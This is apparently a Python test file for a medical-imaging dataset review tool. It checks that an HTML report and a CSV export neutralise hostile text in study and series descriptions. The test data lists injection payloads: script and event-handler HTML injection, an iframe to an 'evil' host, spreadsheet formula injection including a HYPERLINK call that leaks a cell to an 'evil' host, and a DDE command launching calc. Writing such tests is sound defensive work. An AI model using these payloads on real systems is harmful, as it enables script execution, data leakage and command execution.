"""Markup, formulas and control characters in descriptions and names do nothing in the report; no page loads or runs anything foreign."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

import pytest

from tasks.candidates import keep_judgement
from tasks.model import Verdict
from tasks.policy import load_policy
from tasks.publish.canonical import readable_json
from tasks.publish.store import open_store
from tasks.report import write_report
from tasks.report.text import csv_table, html
from tasks.schemas import INSTANCES, RISK, VERDICTS
from tests.unit.gate_tables import NO_FINDINGS, clean_candidate, receipts_of, table

ROOT = "ab" * 32
NASTY = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</code></td><iframe src=//evil>",
    '=HYPERLINK("http://evil/"&A1)',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "right\u202eleft",
    "null\x00byte",
    "{{7*7}}",
    "javascript:alert(1)",
    "&lt;b&gt;",
    "x" * 5000,
]

TEXTS = ("StudyDescription", "SeriesDescription", "ProtocolName", "Manufacturer", "ManufacturerModelName", "Modality")


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def written(tmp_path, rows, policy=None, dataset="chest-ct"):
    private = open_store(str(tmp_path))
    verdict = Verdict(ROOT, False, ("K6: patients who share their pattern of visits (ask)",), "cd" * 32, ("integrity",))
    counts = {"patients": 1, "studies": 1, "series": 1, "instances": len(rows), "size_bytes": 1, "findings": 0}
    about = {"candidate_id": "c1", "dataset": dataset, "root": ROOT, "counts": counts, "policy_name": "shifted-dates"}
    private.put("candidates/c1/candidate.json", readable_json(about))
    from tasks.private import put_table

    put_table(private, "candidates/c1/instances.parquet", table(rows))
    put_table(private, "candidates/c1/findings.parquet", NO_FINDINGS)
    keep_judgement(private, "c1", verdict, VERDICTS.empty_table(), RISK.empty_table(), [], "night run")
    write_report(private, "c1", receipts_of(rows), policy or load_policy())
    return private.get("candidates/c1/report.html").decode(), private.get("candidates/c1/values.csv").decode()


@pytest.fixture(scope="module")
def nasty(tmp_path_factory):
    rows = clean_candidate(len(NASTY), 1)
    for row, text in zip(rows, NASTY, strict=True):
        row |= dict.fromkeys(TEXTS, text)
    return written(tmp_path_factory.mktemp("nasty"), rows, dataset="<b>x</b>")


def test_nothing_in_the_data_becomes_markup(nasty):
    page, _ = nasty
    tags = Tags()
    tags.feed(page)
    names = {t for t, _ in tags.tags}
    assert names.isdisjoint({"iframe", "object", "embed", "form", "link", "base", "a"})
    assert "&lt;b&gt;x&lt;/b&gt;: candidate c1" in page
    assert [t for t, _ in tags.tags].count("script") == 1
    assert not [a for _, attrs in tags.tags for a in attrs if a.startswith("on") or a in ("style", "srcset", "href", "action")]
    assert {attrs.get("src", "data:")[:5] for t, attrs in tags.tags if t == "img"} <= {"data:"}


def test_the_policy_of_the_page_names_its_own_script_and_style_only(nasty):
    page, _ = nasty
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', page).group(1)
    assert policy.startswith("default-src 'none'; ")
    assert policy.count("sha256-") == 2
    assert "unsafe" not in policy
    assert "http" not in policy


def test_control_and_direction_characters_are_made_visible():
    assert html("a\u202eb\x00") == "a\\u202eb\\u0000"


def test_no_cell_is_a_formula(nasty):
    _, text = nasty
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))] == []


def test_numbers_stay_numbers_in_a_spreadsheet():
    assert csv_table(["n"], [[-5]]) == b'"n"\r\n"-5"\r\n'


def test_all_values_null_gives_a_page(tmp_path):
    keys = ("study_key", "PatientID", "StudyInstanceUID", "SeriesInstanceUID", "SOPInstanceUID", "SOPClassUID", "TransferSyntaxUID")
    keys += ("quarantine_key", "size_bytes", "sha256", "status")
    row = clean_candidate(1, 1)[0]
    page, _ = written(tmp_path, [{n: row[n] if n in keys else None for n in INSTANCES.names}])
    assert "Values to read" in page


def test_an_empty_candidate_gives_a_page(tmp_path):
    page, _ = written(tmp_path, [])
    assert "nothing to show" in page


def test_the_operator_and_source_identity_are_not_on_the_page(nasty):
    page, _ = nasty
    assert "night run" not in page


def test_values_decided_before_are_not_asked_again(tmp_path):
    from tasks.secret import Secret
    from tasks.value_rules import Decision, keep_rules, read_rules

    rows = clean_candidate(2, 1)
    rows[0]["StudyDescription"] = "ROUTINE CHEST"
    written(tmp_path, rows)
    private = open_store(str(tmp_path))
    secret = Secret(b"s" * 32)
    keep_rules(private, secret, [Decision("StudyDescription", "ROUTINE CHEST", "accept")], reviewer="Ada")
    write_report(private, "c1", receipts_of(rows), load_policy(), read_rules(private, secret))
    page = private.get("candidates/c1/report.html").decode()
    assert "ROUTINE CHEST" not in page
    assert "1 were" in page
